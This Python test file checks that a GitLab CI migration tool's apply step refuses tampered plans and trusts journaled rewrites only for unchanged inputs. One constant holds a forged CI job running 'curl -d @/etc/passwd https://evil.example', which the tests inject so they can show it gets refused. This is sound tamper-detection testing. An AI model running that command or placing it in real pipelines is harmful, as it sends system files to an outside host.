"""Apply confirms a planned rewrite (and the integrity check the who-can-impersonate simulation) from
the journal instead of redoing it — only when its inputs are exactly the journaled ones (issue 18;
migrate.plan.rewrite_journal, migrate.plan.impersonation_journal).

`plan` journals each rewrite under the digest of every input (file text, options, included texts)
and the code version, with the sha256 of the text it produced. The merge-request executor builds
the request from the live files as it would to recompute; a journaled record for that digest
whose output sha256 is the plan content's stands for the recomputation. The safety rule must hold
unchanged: a plan whose content was edited is refused, a file changed since planning is rewritten
again (or refused), in a dry run and in a real apply.
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gitlab
import pytest
from helpers.demo_planned import demo_planned

import migrate.apply.loop as loop
from migrate.apply.merge_request_content import branch_name
from migrate.apply.merge_request_executor import MergeRequestExecutor
from migrate.cli.verbs import main
from migrate.core.code_version import tree_digest
from migrate.core.config import GitLabConfig, MergeRequestConfig
from migrate.core.model import Action, ActionResult, MergeRequestParams, Plan, params_as
from migrate.core.state import State
from migrate.gitlab.client import GitLabClients
from migrate.gitlab.merge_requests import GitLabMergeRequests
from migrate.plan import impersonation_journal, plan_io, rewrite_journal
from migrate.plan.planner import RewriteOutcome, RewriteRequest, default_rewriter
from migrate.plan.rewrite_journal import JournaledRewriter, RewriteJournal, request_digest, sha256_text
from migrate.sandbox.launch import Sandbox

EXFILTRATE = "\nexfiltrate:\n  script:\n    - curl -d @/etc/passwd https://evil.example\n"


class Counting:
    """The real rewriter, counting the requests it is asked to rewrite."""

    def __init__(self) -> None:
        self.inner, self.calls = default_rewriter(), 0

    def __call__(self, request: RewriteRequest) -> RewriteOutcome:
        self.calls += 1
        return self.inner(request)


class TrustsAnyContent(RewriteJournal):
    """A broken journal: confirms the record's inputs but not that it gave the plan's content."""

    def confirmed(self, request: RewriteRequest, claimed: str) -> RewriteOutcome | None:
        record = self.record(request_digest(request))
        return RewriteOutcome("rewritten", claimed) if record and record.get("status") == "rewritten" else None


@pytest.fixture()
def planned(tmp_path: Path) -> Iterator[tuple[Sandbox, Path, Plan]]:
    with demo_planned(tmp_path) as planned:
        yield planned


def _mrs(plan: Plan) -> list[Action]:
    """The rewriter's merge requests that apply opens now: not a consumer's ID-token MR (computed by
    `consumer_tokens.add_tokens`, not the rewriter) nor a template's that waits for those to be
    merged (tests/apply/test_consumer_order.py)."""
    mrs = [a for a in plan.actions if a.kind == "merge_request"
           and params_as(a, MergeRequestParams).consumer_tokens is None and not params_as(a, MergeRequestParams).after_merged]
    assert len(mrs) >= 3, "the demo plan has merge requests"
    return mrs


def _executor(sb: Sandbox, plan: Plan, rewriter: Any, dry_run: bool = True) -> MergeRequestExecutor:
    clients = GitLabClients(GitLabConfig(url=sb.gitlab_url), None, token=sb.gitlab_token())
    return MergeRequestExecutor(GitLabMergeRequests(clients), MergeRequestConfig(), plan, dry_run=dry_run,
                                rewriter=rewriter)


def _run(sb: Sandbox, plan: Plan, rewriter: Any, dry_run: bool = True) -> dict[str, ActionResult]:
    ex = _executor(sb, plan, rewriter, dry_run)
    return {a.id: ex.execute(a) for a in _mrs(plan)}


def _journal(tmp: Path) -> RewriteJournal:
    return rewrite_journal.from_state(State(tmp / "state"))


def _records(tmp: Path) -> dict[str, dict[str, Any]]:
    return State(tmp / "state").computations(rewrite_journal.KIND)


def _with_content(plan: Plan, action: Action, extra: str) -> Plan:
    p = params_as(action, MergeRequestParams)
    if p.files:
        p = dataclasses.replace(p, files=(dataclasses.replace(p.files[0], new_content=p.files[0].new_content + extra),
                                          *p.files[1:]))
    else:
        p = dataclasses.replace(p, new_content=(p.new_content or "") + extra)
    forged = dataclasses.replace(action, params=p)
    return dataclasses.replace(plan, actions=tuple(forged if a.id == action.id else a for a in plan.actions))


def _target(action: Action) -> tuple[str, str, str]:
    p = params_as(action, MergeRequestParams)
    return p.project, p.file_path, p.ref


def test_plan_journals_every_rewrite_it_plans(planned: tuple[Sandbox, Path, Plan]) -> None:
    _sb, tmp, plan = planned
    records = _records(tmp)
    outputs = {r["output_sha256"] for r in records.values() if r["status"] == "rewritten"}
    for action in _mrs(plan):
        assert sha256_text(str(action.params.new_content)) in outputs, action.id
    # digests and reasons only: no file content in the state database
    body = json.dumps(records)
    assert all(str(a.params.new_content)[:40] not in body for a in _mrs(plan))


def test_the_journal_answers_for_unchanged_inputs_with_the_same_outcomes(
        planned: tuple[Sandbox, Path, Plan]) -> None:
    sb, tmp, plan = planned
    recompute = Counting()
    reference = _run(sb, plan, recompute)
    assert recompute.calls == len(_mrs(plan))
    confirming = Counting()
    journaled = _run(sb, plan, JournaledRewriter(confirming, _journal(tmp)))
    assert confirming.calls == 0  # every rewrite confirmed from the journal
    assert {k: (r.outcome, r.detail) for k, r in journaled.items()} == \
        {k: (r.outcome, r.detail) for k, r in reference.items()}
    assert {r.outcome for r in journaled.values()} == {"would_apply"}


def _assert_edit_refused(results: dict[str, ActionResult], aid: str) -> None:
    assert results[aid].outcome == "refused", results[aid]
    assert "differs from the rewrite of the live file" in results[aid].detail
    assert "evil.example" in results[aid].detail


def test_content_edited_in_the_plan_is_refused_and_a_broken_journal_would_not(
        planned: tuple[Sandbox, Path, Plan]) -> None:
    sb, tmp, plan = planned
    action = _mrs(plan)[0]
    forged = _with_content(plan, action, EXFILTRATE)
    counting = Counting()
    _assert_edit_refused(_run(sb, forged, JournaledRewriter(counting, _journal(tmp))), action.id)
    assert counting.calls == 1  # only the edited one was recomputed
    broken = JournaledRewriter(Counting(), TrustsAnyContent(_records(tmp)))
    with pytest.raises(AssertionError):
        _assert_edit_refused(_run(sb, forged, broken), action.id)


def test_content_edited_in_the_plan_file_is_refused_by_the_cli_dry_run_and_apply(
        planned: tuple[Sandbox, Path, Plan]) -> None:
    sb, tmp, plan = planned
    action = _mrs(plan)[0]
    forged = tmp / "forged.json"
    forged.write_text(json.dumps(plan_io.to_data(_with_content(plan, action, EXFILTRATE))))
    for dry in (True, False):
        buf = io.StringIO()
        with contextlib.redirect_stdout(buf):
            code = main(["apply", "-c", str(tmp / "c.yaml"), str(forged), "--format", "json",
                         "--only", "merge_request", *(["--dry-run"] if dry else [])])
        rows = {r["action_id"]: r for r in json.loads(buf.getvalue())["results"]}
        assert code == 1
        assert rows[action.id]["outcome"] == "refused", rows[action.id]
        assert "differs from the rewrite of the live file" in rows[action.id]["detail"]
        others = [rows[a.id]["outcome"] for a in _mrs(plan) if a.id != action.id]
        assert set(others) == {"would_apply" if dry else "applied"}
    gl = gitlab.Gitlab(sb.gitlab_url, private_token=sb.gitlab_token())
    with pytest.raises(gitlab.exceptions.GitlabGetError):  # nothing was pushed for the edited action
        gl.projects.get(_target(action)[0]).branches.get(branch_name(MergeRequestConfig().branch_prefix, action.id))


@pytest.mark.parametrize("dry_run", [True, False], ids=["dry run", "apply"])
def test_a_file_changed_since_planning_is_rewritten_again_not_confirmed(
        planned: tuple[Sandbox, Path, Plan], dry_run: bool) -> None:
    sb, tmp, plan = planned
    action = _mrs(plan)[0]
    project, path, ref = _target(action)
    gl = gitlab.Gitlab(sb.gitlab_url, private_token=sb.gitlab_token())
    live = gl.projects.get(project).files.get(path, ref=ref).decode().decode()
    changed = live + "\n# changed after planning\n"
    gl.projects.get(project).commits.create({"branch": ref, "commit_message": "edit", "actions": [
        {"action": "update", "file_path": path, "content": changed}]})
    counting = Counting()
    ex = _executor(sb, plan, JournaledRewriter(counting, _journal(tmp)), dry_run=dry_run)
    result = ex.execute(action)
    assert counting.calls == 1  # the changed file was rewritten again, the journal did not answer
    assert result.outcome == ("would_apply" if dry_run else "applied"), result
    if not dry_run:
        committed = gl.projects.get(project).files.get(path, ref=result.evidence.branch).decode().decode()
        expected = default_rewriter()(dataclasses.replace(_request_of(ex, action, live), text=changed))
        assert committed == expected.text and "# changed after planning" in committed
        assert committed != action.params.new_content


def _request_of(ex: MergeRequestExecutor, action: Action, text: str) -> RewriteRequest:
    """The request the executor builds for `action` on `text` (captured from the real call)."""
    seen: list[RewriteRequest] = []

    def capture(request: RewriteRequest) -> RewriteOutcome:
        seen.append(request)
        return default_rewriter()(request)

    from migrate.apply.merge_request_executor import _rewrite

    _rewrite(capture, ex.plan, params_as(action, MergeRequestParams), str(action.params.file_path), text)
    return seen[0]


def _request() -> RewriteRequest:
    return RewriteRequest(".gitlab-ci.yml", "deploy:\n  script: [gcloud auth activate-service-account]\n",
                          "https://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/q",
                          {"K": "a@p.iam.gserviceaccount.com"}, ("K",), "17.5.0", "",
                          {"deploy": {"K": "a@p.iam.gserviceaccount.com"}},
                          {"deploy": {"K": {"protected branch": "a@p.iam.gserviceaccount.com"}}}, ("inc: 1\n",))


def _variants(request: RewriteRequest) -> Iterator[tuple[str, RewriteRequest]]:
    """Each field of the request changed in one way a rewrite could depend on."""
    for f in dataclasses.fields(request):
        value = getattr(request, f.name)
        if isinstance(value, str):
            yield f.name, dataclasses.replace(request, **{f.name: value + "x"})
        elif isinstance(value, tuple):
            yield f.name, dataclasses.replace(request, **{f.name: (*value, "x")})
            if value:
                yield f.name + "[reordered]", dataclasses.replace(request, **{f.name: ("x", *value)})
        else:
            changed = json.loads(json.dumps(value))
            job = next(iter(changed), "deploy")
            changed[job] = {"K": "b@p.iam.gserviceaccount.com"} if f.name != "context_accounts" \
                else {"K": {"protected branch": "b@p.iam.gserviceaccount.com"}}
            if f.name == "service_accounts":
                changed = {"K": "b@p.iam.gserviceaccount.com"}
            yield f.name, dataclasses.replace(request, **{f.name: changed})


def test_any_input_changed_is_recomputed_and_every_field_counts() -> None:
    request = _request()
    journal = RewriteJournal()
    outcome = default_rewriter()(request)
    journal.note(request, RewriteOutcome("rewritten", "planned text"))
    assert journal.confirmed(request, "planned text") is not None
    assert journal.confirmed(request, "planned text\nextra: 1\n") is None  # another output
    names = {f.name for f in dataclasses.fields(request)}
    covered = set()
    for name, variant in _variants(request):
        covered.add(name.split("[")[0])
        assert request_digest(variant) != request_digest(request), name
        assert journal.confirmed(variant, "planned text") is None, name
    assert covered == names  # a field added to RewriteRequest later is covered by the digest too
    # a manual outcome never confirms a content
    journal.note(request, RewriteOutcome("manual", "", ("a reason",)))
    assert journal.confirmed(request, "") is None and outcome.status in ("rewritten", "manual", "unchanged")


def test_another_code_version_is_another_digest(tmp_path: Path) -> None:
    request = _request()
    assert request_digest(request, "a" * 64) != request_digest(request, "b" * 64)
    pkg = tmp_path / "pkg"
    (pkg / "ci").mkdir(parents=True)
    (pkg / "ci" / "rewrite.py").write_text("X = 1\n")
    (pkg / "ci" / "credvars.yaml").write_text("a: 1\n")
    first = tree_digest(pkg)
    (pkg / "ci" / "credvars.yaml").write_text("a: 2\n")
    assert tree_digest(pkg) != first  # a data file counts
    (pkg / "ci" / "credvars.yaml").write_text("a: 1\n")
    assert tree_digest(pkg) == first
    (pkg / "__pycache__").mkdir()
    (pkg / "__pycache__" / "x.pyc").write_bytes(b"\0")
    assert tree_digest(pkg) == first  # compiled caches do not
    (pkg / "ci" / "rewrite.py").rename(pkg / "ci" / "rewrite2.py")
    assert tree_digest(pkg) != first  # a renamed file counts


def test_sha256_text_is_of_the_utf8_bytes() -> None:
    assert sha256_text("é") == hashlib.sha256("é".encode()).hexdigest()


# --- the who-can-impersonate simulation (migrate.plan.impersonation_journal) ---------------------

def _simulations(tmp: Path) -> dict[str, dict[str, Any]]:
    return State(tmp / "state").computations(impersonation_journal.KIND)


def _counting_report(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    calls: list[int] = []
    real = loop.impersonation_report

    def counted(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(loop, "impersonation_report", counted)
    return calls


def test_the_integrity_check_takes_the_simulation_plan_journaled(
        planned: tuple[Sandbox, Path, Plan], monkeypatch: pytest.MonkeyPatch) -> None:
    _sb, tmp, plan = planned
    simulated = _simulations(tmp)
    assert impersonation_journal.journal_key(str(plan.inputs_digest)) in simulated
    calls = _counting_report(monkeypatch)
    assert loop.integrity_refusals(plan, simulated) == loop.integrity_refusals(plan) == {}
    assert len(calls) == 1  # only the run without the journal simulated


def test_a_journaled_simulation_answers_only_for_the_derived_bindings(
        planned: tuple[Sandbox, Path, Plan], monkeypatch: pytest.MonkeyPatch) -> None:
    """A planted record saying an account would be broader refuses it — so the record is what
    answers — but not once the plan's bindings differ from the derived ones (one member dropped,
    which a reviewer may do), nor for other code: then the simulation runs again."""
    _sb, tmp, plan = planned
    binding = next(a for a in plan.actions if a.kind == "ensure_binding" and len(a.params.members) >= 1)
    sa = binding.params.service_account
    planted = {impersonation_journal.journal_key(str(plan.inputs_digest)): {"broader": [[sa, ["a planted token"]]]}}
    calls = _counting_report(monkeypatch)
    assert "a planted token" in loop.integrity_refusals(plan, planted)[binding.id]
    assert calls == []
    fewer = dataclasses.replace(binding, params=dataclasses.replace(binding.params, members=binding.params.members[1:]))
    edited = dataclasses.replace(plan, actions=tuple(fewer if a.id == binding.id else a for a in plan.actions))
    assert binding.id not in loop.integrity_refusals(edited, planted)
    assert len(calls) == 1
    monkeypatch.setattr(impersonation_journal, "code_version", lambda: "another build")
    assert binding.id not in loop.integrity_refusals(plan, planted)
    assert len(calls) == 2


def test_the_journal_reads_only_the_records_it_is_asked_for() -> None:
    request = _request()
    asked: list[str] = []
    stored = {request_digest(request): {"status": "rewritten", "output_sha256": sha256_text("out"), "reasons": []}}

    def lookup(digest: str) -> dict[str, Any] | None:
        asked.append(digest)
        return stored.get(digest)

    journal = RewriteJournal(lookup=lookup)
    assert journal.confirmed(request, "out") is not None
    assert journal.confirmed(request, "out") is not None and asked == [request_digest(request)]  # kept
    assert journal.confirmed(dataclasses.replace(request, path="other.yml"), "out") is None
    assert len(asked) == 2
